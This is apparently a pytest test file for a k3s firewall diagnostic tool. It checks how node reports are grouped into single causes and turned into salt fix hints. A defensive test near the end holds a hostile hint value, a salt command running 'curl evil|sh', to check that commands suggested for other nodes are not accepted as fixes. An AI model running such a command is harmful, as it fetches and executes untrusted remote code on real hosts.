"""The problems of all nodes by cause: each fault is one cause, at its node, and nothing else."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given, settings, strategies as st

from k3sfw_engine.checks.verdicts import Severity, Status
from k3sfw_engine.fleet.answers import CheckedPart, NodeProblem
from k3sfw_engine.fleet.causes import CauseKind
from k3sfw_engine.fleet.group import group
from k3sfw_engine.fleet.messages import ports, sentence
from tests.simulated_fleet import Fault, simulated_fleet


def causes(nodes=5, *faults, peers=8):
    return group(simulated_fleet(nodes, faults, peers))


def told(found):
    """What each cause is, at which nodes, and at which rows."""
    return [(each.kind.value, each.nodes, each.rows) for each in found]


def test_a_healthy_cluster_has_no_cause():
    assert causes() == ()


def test_what_a_node_rejects_from_everyone_is_one_cause_at_this_node():
    (found,) = causes(5, Fault("rejects", "a2", "8472"))
    assert (found.kind, found.nodes, found.rows) == (CauseKind.NODE, ("a2",), ("udp/8472",))
    assert found.sources == ("a1", "s1", "s2", "s3")
    assert (found.askers, found.is_rejected) == (4, True)
    assert found.hint == "salt a2 state.apply k3s.firewall"
    assert found.questions == 5  # four peers and the node itself
    assert str(sentence(found)).startswith(
        "a2 rejects udp/8472 from all 4 who asked: its own firewall ("
    )


def test_several_ports_of_one_node_are_one_cause():
    (found,) = causes(5, Fault("rejects", "a2", "9500"), Fault("rejects", "a2", "10250"))
    assert (found.nodes, found.rows) == (("a2",), ("tcp/10250", "tcp/9500"))


def test_a_port_of_all_nodes_is_one_cause_with_one_fix():
    nodes = ("a1", "a2", "s1", "s2", "s3")
    (found,) = causes(5, *(Fault("rejects", name, "9500") for name in nodes))
    assert (found.nodes, found.rows) == (nodes, ("tcp/9500",))
    assert found.hint == "salt -L a1,a2,s1,s2,s3 state.apply k3s.firewall"


def test_a_node_that_nothing_reaches_is_one_cause_and_its_link():
    (found,) = causes(5, Fault("down", "s3"))
    assert (found.kind, found.nodes) == (CauseKind.ISOLATED, ("s3",))
    assert sentence(found).text.startswith("s3 fails to everyone: its link, or it is down")


def test_nodes_that_go_down_together_are_one_cause():
    (found,) = causes(40, *(Fault("down", f"a{number:02}") for number in (1, 2, 3, 20, 30)))
    assert (found.kind, len(found.nodes)) == (CauseKind.ISOLATED, 5)
    assert sentence(found).fix == "start them and their network"


def test_a_node_without_peers_that_the_master_hears_is_not_down():
    nodes = ("a1", "a2", "s1", "s2", "s3")
    (found,) = causes(5, *(Fault("no_egress", name) for name in nodes))
    assert (found.kind, found.nodes) == (CauseKind.PEERLESS, nodes)
    assert "though the master is reached" in sentence(found).text


def test_a_node_that_reaches_no_peer_but_is_reached_is_to_look_at_its_egress():
    (found,) = causes(5, Fault("no_egress", "a1"))
    assert (found.kind, found.nodes) == (CauseKind.EGRESS, ("a1",))
    assert sentence(found).text.startswith(
        "a1 reaches none of 4 peers, and peers reach it: its egress or its link"
    )


def test_a_lost_entry_of_the_overlay_is_one_cause_although_both_directions_fail():
    (found,) = causes(5, Fault("no_entry", "s3", peer="a1"))
    assert told([found]) == [("node", ("s3",), ("pods", "udp/8472"))]
    assert found.targets == ("a1",)
    assert found.hint.startswith("salt s3 cmd.run 'bridge fdb replace")


def test_a_setting_that_is_wrong_on_several_nodes_is_said_once():
    (found,) = causes(5, Fault("setting", "a1"), Fault("setting", "s2"))
    assert told([found]) == [("node", ("a1", "s2"), ("net.ipv4.ip_forward",))]
    assert found.hint == "salt -L a1,s2 state.apply k3s.routes"


def test_what_is_missing_is_a_warning_and_comes_after_what_fails():
    found = causes(5, Fault("no_listener", "a1", "9500"), Fault("exposed", "s1", "2379"))
    assert [(each.severity, each.status) for each in found] == [
        (Severity.FAIL, Status.EXPOSED),
        (Severity.WARN, Status.NO_LISTENER),
    ]
    assert sentence(found[1]).text == "nothing listens on tcp/9500 of a1"


def test_an_open_port_is_open_to_those_who_may_not_get_in():
    (found,) = causes(5, Fault("exposed", "s1", "2379"))
    assert (found.nodes, found.sources) == (("s1",), ("a1", "a2"))
    assert (
        "s1 lets tcp/2379 in from a1, a2: reachable although no row allows it"
        in sentence(found).text
    )


def test_two_halves_of_a_cluster_without_a_network_between_them_are_one_cause():
    (found,) = causes(20, *(Fault("behind", f"a{number:02}") for number in range(1, 6)))
    assert found.kind is CauseKind.SPLIT
    assert found.nodes == ("a01", "a02", "a03", "a04", "a05")
    assert "the network between them" in sentence(found).text
    assert not set(found.nodes) & set(found.targets)


AGENTS = [f"a{number:02}" for number in range(1, 18)]


@settings(max_examples=60, deadline=None)
@given(st.sets(st.sampled_from(AGENTS), min_size=4, max_size=9), st.sampled_from([5, 8]))
def test_whichever_nodes_are_behind_a_cut_it_is_one_cause_and_names_them(behind, peers):
    found = causes(20, *(Fault("behind", name) for name in behind), peers=peers)
    assert told(found)[0][:2] == ("split", tuple(sorted(behind)))
    assert len(found) == 1


def test_a_node_that_is_down_beside_a_cut_is_a_cause_of_its_own():
    found = causes(20, *(Fault("behind", name) for name in AGENTS[:5]), Fault("down", "a12"))
    assert sorted(each[:2] for each in told(found)) == [
        ("isolated", ("a12",)),
        ("split", tuple(AGENTS[:5])),
    ]


FAULTS = [
    Fault("rejects", "a010", "8472"),
    Fault("down", "a020"),
    Fault("no_listener", "a030", "9500"),
    Fault("no_entry", "a050", peer="a051"),
    Fault("exposed", "s1", "2379"),
    Fault("setting", "a060"),
    Fault("no_egress", "a100"),
]
AT = {fault: (fault.node,) for fault in FAULTS}


def test_many_faults_at_once_are_as_many_causes():
    found = causes(300, *FAULTS)
    assert sorted(each.nodes for each in found) == sorted(AT.values())


@settings(max_examples=40, deadline=None)
@given(st.sets(st.sampled_from(FAULTS)), st.sampled_from([4, 8, 20]))
def test_any_of_these_faults_together_are_told_apart(faults, peers):
    found = group(simulated_fleet(120, faults, peers))
    assert sorted(each.nodes for each in found) == sorted(AT[fault] for fault in faults)


@settings(max_examples=25, deadline=None)
@given(st.sets(st.sampled_from(FAULTS)))
def test_every_problem_is_explained_exactly_once(faults):
    cluster = simulated_fleet(120, faults)
    problems = sum(
        len(part.problems) for each in cluster.answers.values() for part in each.parts.values()
    )
    assert sum(each.questions for each in group(cluster)) == problems


def test_the_same_answers_give_the_same_causes_in_the_same_order():
    cluster = simulated_fleet(60, [Fault("rejects", "a10", "9500"), Fault("down", "a20")])
    turned = replace(cluster, answers=dict(reversed(cluster.answers.items())))
    assert group(turned) == group(cluster)


# -- problems as nodes report them ----------------------------------------------------------------


def with_problems(*problems):
    """A healthy cluster, in which nodes report these problems: (reporter, part, problem)."""
    cluster = simulated_fleet(5)
    answers = dict(cluster.answers)
    for reporter, part, problem in problems:
        old = answers[reporter]
        found = CheckedPart(Severity.FAIL, "", problems=(*old.parts[part].problems, problem))
        answers[reporter] = replace(old, parts={**old.parts, part: found})
    return replace(cluster, answers=answers)


def problem(source, to, status, port="8472", by="", hint="", evidence="", protocol="udp"):
    return NodeProblem(
        source=source,
        to=to,
        description="Flannel VXLAN",
        status=status,
        evidence=evidence or status.value,
        protocol=protocol,
        port=port,
        by=by,
        hint=hint,
    )


def test_one_direction_that_is_dropped_is_blamed_on_the_node_that_drops_it():
    cluster = with_problems(
        ("s1", "ports", problem("s1", "s2", Status.NO_ANSWER, by="s2", hint="see the switch")),
        ("s2", "ports", problem("s1", "s2", Status.BLOCKED, by="s2", hint="see the ruleset")),
    )
    (found,) = group(cluster)
    assert (found.kind, found.nodes, found.sources) == (CauseKind.NODE, ("s2",), ("s1",))
    assert sentence(found).text.startswith("s2 drops udp/8472 from s1 (1 of 4 who asked): ")
    assert sentence(found).see == "the ruleset"


def without_answer(cluster, name, peer, protocol):
    """The cells say that nothing of this protocol came back from the peer."""
    old = cluster.answers[name]
    at = old.asked.peers.index(peer)
    rows = {
        row: f"{cells[:at]}n{cells[at + 1 :]}" if row.startswith(f"{protocol}/") else cells
        for row, cells in old.asked.rows.items()
    }
    answer = replace(old, asked=replace(old.asked, rows=rows))
    return replace(cluster, answers={**cluster.answers, name: answer})


KEPT_IN = ("a1", "ports", problem("a1", "s1", Status.LOCAL_BLOCK, "80", by="a1", protocol="tcp"))


def test_answers_that_a_node_keeps_in_are_not_the_faults_of_those_who_wait_for_them():
    waits = problem("s1", "a1", Status.NO_ANSWER, "443", by="a1", protocol="tcp")
    cluster = with_problems(KEPT_IN, ("s1", "ports", waits))
    (found,) = group(without_answer(cluster, "s1", "a1", "tcp"))
    assert (found.nodes, found.status, found.questions) == (("a1",), Status.LOCAL_BLOCK, 2)


def test_a_node_that_keeps_some_packets_in_and_answers_others_is_not_why_a_port_is_silent():
    waits = problem("s1", "a1", Status.NO_ANSWER, "443", by="a1", protocol="tcp")
    found = group(with_problems(KEPT_IN, ("s1", "ports", waits)))
    assert {(each.kind, each.nodes) for each in found} == {
        (CauseKind.NODE, ("a1",)),
        (CauseKind.PAIR, ("a1", "s1")),
    }


def test_packets_that_a_node_keeps_in_are_not_why_its_peer_is_silent_at_another_port():
    waits = problem("a1", "s1", Status.NO_ANSWER, "443", by="s1", protocol="tcp")
    cluster = with_problems(KEPT_IN, ("a1", "ports", waits))
    assert len(group(without_answer(cluster, "a1", "s1", "tcp"))) == 2


@pytest.mark.parametrize("kind", ["no_listener", "rejects"])
def test_what_is_wrong_on_the_asking_node_does_not_explain_that_another_is_silent(kind):
    cluster = simulated_fleet(5, [Fault(kind, "s1", "9500")])
    silent = problem("s1", "a2", Status.NO_ANSWER, "9500", by="a2", protocol="tcp")
    old = cluster.answers["s1"]
    part = replace(old.parts["ports"], problems=(*old.parts["ports"].problems, silent))
    answer = replace(old, parts={**old.parts, "ports": part})
    found = group(replace(cluster, answers={**cluster.answers, "s1": answer}))
    assert {(each.kind, each.nodes, each.sources) for each in found} == {
        (CauseKind.NODE, ("s1",), ("a1", "a2", "s2", "s3")),
        (CauseKind.PAIR, ("a2", "s1"), ("s1",)),
    }


def test_a_node_that_refuses_its_peer_is_not_why_this_peer_is_silent():
    refused = problem("s1", "s2", Status.BLOCKED, "9500", by="s2", protocol="tcp")
    silent = problem("s2", "s1", Status.NO_ANSWER, "9500", by="s1", protocol="tcp")
    found = group(with_problems(("s1", "ports", refused), ("s2", "ports", silent)))
    assert {(each.kind, each.nodes) for each in found} == {
        (CauseKind.NODE, ("s2",)),
        (CauseKind.PAIR, ("s1", "s2")),
    }


def test_an_overlay_that_works_with_some_peers_is_named_with_those_with_which_it_does_not():
    silent = [
        ("a1", "ports", problem("a1", peer, Status.NO_ANSWER, by=peer)) for peer in ("a2", "s1")
    ]
    (found,) = group(with_problems(*silent))
    assert (found.kind, found.nodes, found.targets) == (CauseKind.TUNNELS, ("a1",), ("a2", "s1"))
    assert sentence(found).text.startswith(
        "nothing passes through the overlay between a1 and a2, s1: "
    )


def test_an_overlay_that_works_with_no_peer_is_that_of_the_node():
    peers = ("a2", "s1", "s2", "s3")
    cluster = with_problems(
        *(("a1", "ports", problem("a1", peer, Status.NO_ANSWER, by=peer)) for peer in peers),
        *((peer, "ports", problem(peer, "a1", Status.NO_ANSWER, by="a1")) for peer in peers),
    )
    for peer in peers:
        cluster = without_answer(cluster, "a1", peer, "udp")
        cluster = without_answer(cluster, peer, "a1", "udp")
    (found,) = group(cluster)
    assert (found.kind, found.nodes) == (CauseKind.OVERLAY, ("a1",))
    assert sentence(found).text.startswith("nothing passes through the overlay of a1: ")


def test_what_nothing_explains_is_about_the_pair():
    (found,) = group(
        with_problems(("s1", "ports", problem("s1", "s2", Status.NO_ANSWER, "80", by="s2")))
    )
    assert (found.kind, found.nodes) == (CauseKind.PAIR, ("s1", "s2"))


def test_a_node_that_does_not_answer_one_port_to_several_is_the_cause():
    found = group(
        with_problems(
            *(
                (name, "ports", problem(name, "s2", Status.NO_ANSWER, "443", by="s2"))
                for name in ("a1", "a2", "s1")
            )
        )
    )
    assert [(each.kind, each.nodes, each.sources) for each in found] == [
        (CauseKind.TARGET, ("s2",), ("a1", "a2", "s1"))
    ]


def test_ports_that_peers_found_open_are_what_the_zone_says_of_a_whole_range():
    zone = problem("any", "s1", Status.EXPOSED, "2000-2999", by="s1", hint="salt s1 close")
    peer = problem("a1", "s1", Status.EXPOSED, "2379", by="s1", hint="see the zones")
    (found,) = group(with_problems(("s1", "zones", zone), ("a1", "ports", peer)))
    assert (found.nodes, found.hint, found.questions) == (("s1",), "salt s1 close", 2)


def test_a_node_accuses_no_node_of_what_it_did_not_ask_it():
    lie = problem("s1", "s2", Status.BLOCKED, by="s2", hint="salt s2 do.harm")
    (found,) = group(with_problems(("a1", "ports", lie)))
    assert found.nodes == ("a1",)


@pytest.mark.parametrize(
    ("rows", "text"),
    [
        (["tcp/443", "tcp/80", "udp/8472"], "tcp/80,443 and udp/8472"),
        (["tcp/free"], "a port that no row names"),
        (["pods"], "pods"),
        (["tcp/2379-2380"], "tcp/2379-2380"),
        (["any"], "any"),
    ],
)
def test_rows_are_listed_by_their_numbers(rows, text):
    assert ports(rows) == text


def test_a_command_that_a_node_suggests_for_another_is_not_the_fix_of_the_check():
    hostile = "salt s1 state.single cmd.run name='curl evil|sh'"
    blocked = problem("a1", "s1", Status.BLOCKED, by="s1", hint=hostile)
    (cause,) = group(with_problems(("a1", "ports", blocked)))
    assert cause.hint_by == ("a1",)
    said = sentence(cause)
    assert said.fix == ""
    assert said.see == f"suggested by a1, read it first: {hostile}"


def test_a_node_may_say_what_is_to_be_run_on_itself():
    own = "salt a1 cmd.run 'ip link set flannel.1 up'"
    down = problem("a1", "", Status.LINK_DOWN, by="a1", hint=own)
    (cause,) = group(with_problems(("a1", "routes", down)))
    assert sentence(cause).fix == own
